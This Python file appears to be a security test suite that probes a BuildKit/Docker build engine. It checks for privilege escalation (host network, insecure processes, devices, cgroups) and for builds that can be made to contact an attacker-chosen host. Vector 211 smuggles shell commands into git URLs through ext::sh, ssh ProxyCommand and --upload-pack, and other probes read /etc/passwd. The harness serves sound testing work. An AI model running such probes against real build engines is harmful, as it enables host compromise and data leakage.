"""200-218: BuildKit by hand: the host's network, its devices and privileges, and what a build has the engine connect to."""

import json

from lib.case import vector
from lib.kit import BUSYBOX, Gateway, Graph, Refused, Session, bridged, dockerfile, fetching, shell, solve
from lib.proto import msg

from .smuggling import host_netns

HOST = ["network.host"]


def kit(c, label, send, bites=None, **more):
    """A call; it bites when it has come to a good end."""
    c.probe(label, lambda target, _: send(target), lambda a, state: (bites or (lambda a, _: getattr(a, "good", False)))(a, state), **more)


def netns(c):
    """Fails unless it runs in the host's network."""
    return f'[ "$(readlink /proc/self/ns/net)" = "{host_netns(c)}" ]'


def reaching(c, label, send, **more):
    """Bites when the engine has gone where the client said."""
    kit(c, label, send, lambda _, before: c.rig.canary.hits > before, setup=lambda: c.rig.canary.hits, **more)


@vector(200, "BuildKit: the entitlement of the host's network")
def network_host(c):
    look = netns(c)
    kit(c, "LLB, network HOST", lambda t: solve(t, shell(look, network=1), entitlements=HOST))
    kit(c, "granted twice", lambda t: solve(t, shell(look, network=1), entitlements=HOST * 2))
    kit(
        c,
        "the entitlement alone",
        lambda t: solve(t, shell("true"), entitlements=HOST),
    )
    kit(c, "in a frontend's option", lambda t: dockerfile(t, f"FROM busybox\nRUN {look}\n", attrs={"force-network-mode": "host"}, entitlements=HOST))
    kit(
        c,
        "RUN --network=host",
        lambda t: dockerfile(t, f"FROM busybox\nRUN --network=host {look}\n", entitlements=HOST),
        maybe=c.rig.engine == "20.10",
    )


@vector(201, "BuildKit: host network without the entitlement")
def network_unasked(c):
    look = netns(c)
    why = "the engine demands the entitlement"
    kit(c, "LLB", lambda t: solve(t, shell(look, network=1)), inert=why)
    kit(c, "option", lambda t: dockerfile(t, f"FROM busybox\nRUN {look}\n", attrs={"force-network-mode": "host"}), inert=why)


@vector(202, "BuildKit: network modes that an enum does not have")
def network_numbers(c):
    look = netns(c)
    for label, value in (("2^32+1", (1 << 32) + 1), ("2^64-ish", (1 << 63) + 1), ("2^35+1", (1 << 35) + 1)):
        kit(c, label, lambda t, value=value: solve(t, shell(look, network=value), entitlements=HOST), maybe=True)
        kit(c, f"{label} and no entitlement", lambda t, value=value: solve(t, shell(look, network=value)), maybe=True)
    for value in (3, -1, 1 << 31):
        kit(c, str(value), lambda t, value=value: solve(t, shell(look, network=value), entitlements=HOST), maybe=True)


@vector(203, "BuildKit: host network through a frontend's inputs")
def network_inputs(c):
    look = netns(c)
    through = lambda network: {"x": shell(look, network=network)}  # noqa: E731
    text = "FROM x\nRUN true\n"
    kit(
        c,
        "FrontendInputs",
        lambda t: dockerfile(t, text, attrs={"context:x": "input:x"}, inputs=through(1), entitlements=HOST),
        maybe=c.rig.engine == "20.10",  # its frontend has no named contexts
    )
    kit(c, "its context", lambda t: dockerfile(t, "FROM busybox\nCOPY bin /x\n", inputs={"context": shell(look, network=1)}, entitlements=HOST), maybe=True)
    if c.rig.engine == "20.10":
        c.declare("its frontend has no named contexts")


def evaluated(definition):
    return msg((1, definition), (5, True), (6, True), (14, True))


@vector(204, "BuildKit: host network by LLBBridge.Solve")
def network_bridge(c):
    look = netns(c)

    def send(t):
        try:
            with Gateway(t, entitlements=HOST if t.direct else ()) as build:
                return build.call("Solve", evaluated(shell(look, network=1)))
        except Refused as refused:
            return refused.answer

    kit(c, "Definition", send)


@vector(205, "BuildKit: host network by NewContainer")
def network_container(c):
    def send(t):
        with Gateway(t, entitlements=HOST if t.direct else ()) as build:
            solved, ref = build.solved(fetching(BUSYBOX))
            if not solved.good:
                return solved
            root = msg((1, 0), (3, "/"), (23, ref))
            return build.call("NewContainer", msg((1, "dgv"), (2, root), (3, 1)))

    kit(c, "NewContainer", send)


@vector(206, "BuildKit: an insecure process")
def insecure(c):
    capable = "! grep -q 'CapEff:.*a80425fb' /proc/self/status"  # what containers have
    why = "the engine does not grant it unless it is told to" if c.rig.engine == "20.10" else None
    kit(c, "LLB", lambda t: solve(t, shell(capable, security=1), entitlements=["security.insecure"]), inert=why)
    kit(c, "and the host's network", lambda t: solve(t, shell(capable, security=1, network=1), entitlements=["security.insecure", *HOST]), inert=why)
    kit(c, "2^32+1", lambda t: solve(t, shell(capable, security=(1 << 32) + 1), entitlements=["security.insecure"]), maybe=True)
    kit(c, "the entitlement alone", lambda t: solve(t, shell("true"), entitlements=["security.insecure"]), inert=why)
    kit(c, "unasked", lambda t: solve(t, shell(capable, security=1)), inert="the engine demands the entitlement")


@vector(207, "BuildKit: the host's devices")
def devices(c):
    device = msg((1, "dgv.test/null=null"))
    why = "the engine has no such device" if c.rig.engine == "20.10" else None
    kit(c, "LLB", lambda t: solve(t, shell("true", more=[(6, device)]), entitlements=["device"]), maybe=True)
    kit(c, "one by its name", lambda t: solve(t, shell("true", more=[(6, device)]), entitlements=["device=dgv.test/null"]), maybe=True)
    kit(c, "optional", lambda t: solve(t, shell("true", more=[(6, msg((1, "x/y=z"), (2, True)))]), entitlements=["device"]), maybe=True)
    kit(c, "the entitlement alone", lambda t: solve(t, shell("true"), entitlements=["device"]), inert=why, maybe=True)
    if not why:
        c.declare("no engine of Debian's has a device to give")


@vector(208, "BuildKit: a cgroup of the client's choice")
def cgroups(c):
    look = "grep -q other208 /proc/self/cgroup"
    old = c.rig.engine == "20.10"  # knows no such thing of a build
    kit(c, "LLB", lambda t: solve(t, shell(look, meta=[(10, "/other208")])), maybe=old)
    kit(c, "LLB, above", lambda t: solve(t, shell(look, meta=[(10, "/../other208")])), maybe=True)
    kit(c, "a frontend's option", lambda t: dockerfile(t, f"FROM busybox\nRUN {look}\n", attrs={"cgroup-parent": "/other208"}), maybe=old)
    if old:
        c.declare("this engine puts builds where it likes")


@vector(209, "BuildKit: unknown entitlements and frontends")
def unknown(c):
    kit(c, "entitlement", lambda t: solve(t, shell("true"), entitlements=["everything"]), maybe=True)
    kit(c, "an empty entitlement", lambda t: solve(t, shell("true"), entitlements=[""]), maybe=True)
    kit(c, "frontend", lambda t: solve(t, frontend="other.v0"), maybe=True)
    kit(c, "by LLBBridge", lambda t: bridged(t, "Solve", msg((2, "other.v0"))), maybe=True)
    c.declare("this engine knows no other ones")


@vector(210, "BuildKit: graphs that fetch inside")
def graphs(c):
    at = c.rig.canary.at
    for label, identifier, attrs in (
        ("http", f"http://{at}/x", {}),
        ("https", f"https://{at}/x", {}),
        ("HTTP", f"HTTP://{at}/x", {}),
        ("a name with a user", f"http://github.com@{at}/x", {}),
        ("docker-image", f"docker-image://{at}/x:latest", {}),
        ("docker-image by digest", f"docker-image://{at}/x@sha256:{'0' * 64}", {}),
        ("git", f"git://{at}/x.git", {}),
        ("git.fullurl", "git://github.com/a/b.git", {"git.fullurl": f"http://{at}/x.git"}),
        ("git.fullurl in git's own", "git://github.com/a/b.git", {"git.fullurl": f"git://{at}/x.git"}),
    ):
        reaching(c, label, lambda t, i=identifier, a=attrs: solve(t, fetching(i, a)), maybe=label in ("HTTP", "docker-image by digest"))
    reaching(c, "second of two", lambda t: solve(t, two(f"http://{at}/x")))
    # through a proxy inside
    reaching(c, "by LLBBridge", lambda t: bridged(t, "Solve", evaluated(fetching(f"http://{at}/x"))))


def two(identifier):
    """An image, and behind it something else."""
    graph = Graph()
    base = graph.source(BUSYBOX)
    other = graph.source(identifier)
    graph.add((1, [msg((1, base)), msg((1, other))]), (2, msg((1, msg((1, ["/bin/true"]), (3, "/"))), (2, [msg((1, 0), (3, "/"), (4, 0)), msg((1, 1), (3, "/o"), (4, -1))]))))
    return graph.definition()


@vector(211, "BuildKit: repositories by schemes of git's own")
def schemes(c):
    marker = "/tmp/dgv211"
    for label, url in (
        ("file", f"file://{c.rig.dir}/none.git"),
        ("ext", f"ext::sh -c touch% {marker}"),
        ("a path", "/etc"),
        ("ssh with a command", f"ssh://-oProxyCommand=touch%20{marker}/x"),
        ("scp with a command", f"-oProxyCommand=touch {marker}:x"),
        ("an option", "--upload-pack=touch /tmp/dgv211"),
    ):
        # the engine hands it to git: whoever asks has it run on the host
        kit(
            c,
            label,
            lambda t, u=url: solve(t, fetching("git://github.com/a/b.git", {"git.fullurl": u})),
            lambda a, _: a.engines and "git" in a.message,
            maybe=c.rig.engine == "20.10",  # puts https:// before it
        )
    for identifier in ("git://file:///etc", "file:///etc/passwd", "git+file:///etc", "docker-image+blob://x/y@sha256:" + "0" * 64):
        kit(c, identifier[:20], lambda t, i=identifier: solve(t, fetching(i)), maybe=True)


@vector(212, "BuildKit: what a Dockerfile fetches")
def fetched(c):
    at = c.rig.canary.at
    for label, text in (
        ("ADD", f"FROM busybox\nADD http://{at}/x /x\n"),
        ("ADD of a repository", f"FROM busybox\nADD http://{at}/x.git /x\n"),
        ("ADD with a variable", f"FROM busybox\nARG A={at}\nADD http://$A/x /x\n"),
        ("FROM", f"FROM {at}/x\n"),
        ("FROM with a variable", f"ARG A={at}\nFROM $A/x\n"),
        ("COPY --from", f"FROM busybox\nCOPY --from={at}/x /x /x\n"),
        ("RUN --mount=from", f"FROM busybox\nRUN --mount=type=bind,from={at}/x,target=/x true\n"),
        ("# syntax=", f"# syntax={at}/x\nFROM busybox\n"),
        ("// syntax=", f"// syntax={at}/x\nFROM busybox\n"),
    ):
        maybe = label in ("ADD of a repository", "// syntax=") or (c.rig.engine == "20.10" and "mount" in label)
        reaching(c, label, lambda t, text=text: dockerfile(t, text), maybe=maybe)
    reaching(c, "a build argument", lambda t: dockerfile(t, "ARG A=busybox\nFROM $A\n", attrs={"build-arg:A": f"{at}/x"}))
    reaching(c, "BUILDKIT_SYNTAX", lambda t: dockerfile(t, "FROM busybox\n", attrs={"build-arg:BUILDKIT_SYNTAX": f"{at}/x"}), maybe=c.rig.engine == "20.10")
    reaching(c, "a named context", lambda t: dockerfile(t, "FROM x\n", attrs={"context:x": f"docker-image://{at}/x"}), maybe=c.rig.engine == "20.10")
    reaching(c, "the context", lambda t: dockerfile(t, "FROM busybox\n", attrs={"context": f"http://{at}/x"}))
    reaching(c, "the context, a repository", lambda t: dockerfile(t, "FROM busybox\n", attrs={"context": f"http://{at}/x.git"}))
    reaching(c, "an input's context", lambda t: dockerfile(t, "FROM busybox\nCOPY x /x\n", inputs={"context": fetching(f"http://{at}/x")}), maybe=True)
    reaching(c, "the scanner of attestations", lambda t: dockerfile(t, "FROM busybox\n", attrs={"attest:sbom": f"generator={at}/x"}), maybe=c.rig.engine == "20.10")


@vector(213, "BuildKit: a trigger of a base image")
def trigger(c):
    at = c.rig.canary.at

    def base():
        from .smuggling import tar

        c.rig.admin("POST", "/build?version=1&t=dgv213:latest", tar(Dockerfile=f"FROM busybox\nONBUILD ADD http://{at}/x /x\n".encode()), kind="application/x-tar")
        return c.rig.canary.hits

    kit(c, "ONBUILD", lambda t: dockerfile(t, "FROM dgv213\n"), lambda _, before: c.rig.canary.hits > before, setup=base)


def rules(*rules):
    """A source policy: actions 0 ALLOW, 1 DENY, 2 CONVERT; match types 0 WILDCARD, 1 EXACT, 2 REGEX."""
    return msg((1, 1), *((2, rule) for rule in rules))


def rule(action, identifier, kind=0, updates=None):
    return msg((1, action), (2, msg((1, identifier), (2, kind))), (3, updates))


@vector(214, "BuildKit: a source policy that allows or converts")
def source_policies(c):
    at, old = c.rig.canary.at, c.rig.engine == "20.10"
    http = f"http://{at}/x"
    add = f"FROM busybox\nADD {http} /x\n"
    convert = rules(rule(2, "docker-image://docker.io/library/busybox:*", updates=msg((1, f"docker-image://{at}/x:latest"))))
    for label, policy, text in (
        ("ALLOW everything", rules(rule(0, "*")), add),
        ("ALLOW by an expression", rules(rule(0, ".*", 2)), add),
        ("ALLOW exactly", rules(rule(0, http, 1)), add),
        ("ALLOW a thousand times", rules(*[rule(0, "*")] * 1000), add),
        ("CONVERT an image", convert, "FROM busybox\n"),
        ("CONVERT to a file", rules(rule(2, "docker-image://docker.io/library/busybox:*", updates=msg((1, http)))), "FROM busybox\n"),
        ("CONVERT an address", rules(rule(2, "https://github.com/*", updates=msg((1, http)))), "FROM busybox\nADD https://github.com/x /x\n"),
        ("CONVERT back and forth", rules(rule(2, http, updates=msg((1, "https://github.com/x"))), rule(2, "https://github.com/x", updates=msg((1, http)))), add),
        ("DENY and ALLOW", rules(rule(1, "*"), rule(0, "*")), add),
        ("an action that is none", rules(rule(3, "*"), rule(0, "*")), add),
    ):
        maybe = old or label in ("CONVERT to a file", "CONVERT back and forth", "an action that is none")
        reaching(c, label, lambda t, p=policy, text=text: dockerfile(t, text, policy=p), maybe=maybe)
    graph = fetching("git://github.com/a/b.git", {"git.fullurl": "https://github.com/a/b.git"})
    whole = rules(rule(2, "git://github.com/*", updates=msg((2, {"git.fullurl": f"http://{at}/x.git"}))))
    reaching(c, "CONVERT an attribute", lambda t: solve(t, graph, policy=whole), maybe=True)

    def bridge(policy):
        return lambda t: bridged(t, "Solve", msg((1, fetching(http)), (14, True), (15, policy)))

    reaching(c, "of LLBBridge.Solve", bridge(rules(rule(0, "*"))), maybe=old)
    reaching(c, "of LLBBridge.Solve, converting", lambda t: bridged(t, "Solve", msg((1, fetching(BUSYBOX)), (14, True), (15, convert))), maybe=True)


@vector(215, "BuildKit: a frontend of a registry that is refused")
def frontends(c):
    at = c.rig.canary.at
    reaching(c, "gateway.v0", lambda t: solve(t, frontend="gateway.v0", attrs={"source": f"{at}/x"}))
    reaching(c, "gateway.v0 with a digest", lambda t: solve(t, frontend="gateway.v0", attrs={"source": f"{at}/x@sha256:{'0' * 64}"}))
    reaching(c, "gateway-devel", lambda t: solve(t, frontend="gateway.v0", attrs={"source": f"{at}/x", "gateway-devel": "true"}), maybe=True)
    reaching(c, "of an input", lambda t: solve(t, frontend="gateway.v0", attrs={"source": "x", "gateway-devel": "1"}, inputs={"gateway.v0": fetching(f"http://{at}/x")}), maybe=True)
    reaching(c, "by LLBBridge.Solve", lambda t: bridged(t, "Solve", msg((2, "gateway.v0"), (3, {"source": f"{at}/x"}))))
    reaching(c, "cmdline", lambda t: dockerfile(t, "FROM busybox\n", attrs={"cmdline": f"{at}/x", "source": f"{at}/x"}), maybe=True)


@vector(216, "BuildKit: what LLBBridge resolves")
def resolves(c):
    at = c.rig.canary.at
    reaching(c, "ResolveImageConfig", lambda t: bridged(t, "ResolveImageConfig", msg((1, f"{at}/x:latest"))))
    reaching(c, "ResolveImageConfig with a policy", lambda t: bridged(t, "ResolveImageConfig", msg((1, "docker.io/library/busybox:latest"), (8, rules(rule(2, "*", updates=msg((1, f"docker-image://{at}/x"))))))), maybe=True)
    for scheme in ("docker-image", "http", "git"):
        asked = msg((1, msg((1, f"{scheme}://{at}/x"))), (2, msg((1, "amd64"), (2, "linux"))))
        reaching(c, f"ResolveSourceMeta {scheme}", lambda t, m=asked: bridged(t, "ResolveSourceMeta", m), maybe=True)


@vector(217, "BuildKit: caches of other kinds and registries")
def caches(c):
    at, old = c.rig.canary.at, c.rig.engine == "20.10"

    def entry(kind, **attrs):
        return msg((1, kind), (2, {k.replace("_", "."): v for k, v in attrs.items()}))

    def importing(e):
        return lambda t: solve(t, shell("true"), cache=msg((5, e)))

    def exporting(e):
        return lambda t: solve(t, shell("true"), cache=msg((4, e)))

    for label, e in (
        ("registry", entry("registry", ref=f"{at}/x")),
        ("registry.insecure", entry("registry", ref=f"{at}/x", registry_insecure="true")),
    ):
        reaching(c, f"import {label}", importing(e))
        reaching(c, f"export {label}", exporting(e), maybe=True)
    reaching(c, "import, two", lambda t: solve(t, shell("true"), cache=msg((5, [entry("inline"), entry("registry", ref=f"{at}/x")]))), maybe=True)
    reaching(c, "ImportRefsDeprecated", lambda t: solve(t, shell("true"), cache=msg((2, f"{at}/x"))))
    reaching(c, "ExportRefDeprecated", lambda t: solve(t, shell("true"), cache=msg((1, f"{at}/x"))), maybe=True)
    reaching(c, "a frontend's cache-from", lambda t: dockerfile(t, "FROM busybox\nRUN true\n", attrs={"cache-from": f"{at}/x"}))
    several = f"docker.io/library/busybox,{at}/x"
    reaching(c, "a frontend's cache-from, the second", lambda t: dockerfile(t, "FROM busybox\nRUN true\n", attrs={"cache-from": several}))
    entries = json.dumps([{"Type": "registry", "Attrs": {"ref": f"{at}/x"}}])
    reaching(c, "a frontend's cache-imports", lambda t: dockerfile(t, "FROM busybox\nRUN true\n", attrs={"cache-imports": entries}), maybe=old)
    twice = '[{"Type":"registry","Attrs":{"ref":"docker.io/x","ref":"%s/x"}}]' % at
    for label, text in (
        ("a key twice", twice),
        ("in small letters", entries.lower()),
        ("attributes twice", '[{"Type":"registry","Attrs":{"ref":"docker.io/x"},"Attrs":{"ref":"%s/x"}}]' % at),
        ("odd letters", entries.replace("Attrs", "AttrS")),
    ):
        reaching(c, f"cache-imports, {label}", lambda t, text=text: dockerfile(t, "FROM busybox\nRUN true\n", attrs={"cache-imports": text}), maybe=True)
    imports = msg((1, shell("true")), (12, entry("registry", ref=f"{at}/x")), (14, True))
    reaching(c, "LLBBridge's CacheImports", lambda t: bridged(t, "Solve", imports), maybe=True)
    for kind, attrs in (
        ("s3", {"bucket": "b", "region": "r", "endpoint_url": f"http://{at}", "access_key_id": "a", "secret_access_key": "b"}),
        ("gha", {"url": f"http://{at}/", "token": "x", "scope": "y"}),
        ("azblob", {"account_url": f"http://{at}/", "name": "x", "secret_access_key": "eA=="}),
        ("other", {}),
    ):
        e = msg((1, kind), (2, attrs))
        reaching(c, f"import {kind}", importing(e), maybe=True)
        reaching(c, f"export {kind}", exporting(e), maybe=True)


@vector(218, "BuildKit: exporters that push where one may not")
def exporters(c):
    at, old = c.rig.canary.at, c.rig.engine == "20.10"

    def send(kind, attrs, new=True):
        if new and not old:
            return lambda t: solve(t, shell("true"), more=[(13, msg((1, kind), (2, attrs)))])
        return lambda t: solve(t, shell("true"), exporter=kind, exporter_attrs=attrs)

    for kind in ("moby", "image"):
        for label, attrs in (
            ("push", {"name": f"{at}/x", "push": "true"}),
            ("push without a value", {"name": f"{at}/x", "push": ""}),
            ("push, spelled otherwise", {"name": f"{at}/x", "push": "T"}),
            ("insecure", {"name": f"{at}/x", "push": "true", "registry.insecure": "true"}),
            ("two names", {"name": f"docker.io/library/x,{at}/x", "push": "true"}),
            ("by digest", {"name": f"{at}/x", "push": "true", "push-by-digest": "true"}),
        ):
            for new in (True, False):
                reaching(c, f"{kind} {label} {'new' if new else 'old'}", send(kind, attrs, new), maybe=True)
    for kind in ("other", "containerd"):
        kit(c, kind, send(kind, {}), maybe=True)
    kit(c, "an unknown option", send("moby", {"name": "dgv218", "evil": "1"}), maybe=True)


@vector(258, "BuildKit: exporters that the client names when the build has ended")
def found_exporters(c):
    at = c.rig.canary.at
    method = "/moby.exporter.v1.Exporter/FindExporters"

    found = {"FindExporters": lambda *_: [msg((1, msg((1, "image"), (2, {"name": f"{at}/x", "push": "true", "registry.insecure": "true"}))))]}

    def send(t, _):
        try:
            with Session(t, answers=found, methods=(method,)) as session:
                answer = solve(t, shell("true"), session=session.ident, more=[(14, True)])
                answer.asked = session.was_asked(method)
                return answer
        except Refused as refused:
            return refused.answer

    # (the containerd store has exporters that push; what bites with the other one is that nobody sees what is named)
    inert = "knows no such exporters" if c.rig.engine == "20.10" else None
    c.probe("a push", send, lambda a, _: bool(getattr(a, "asked", None)), inert=inert)
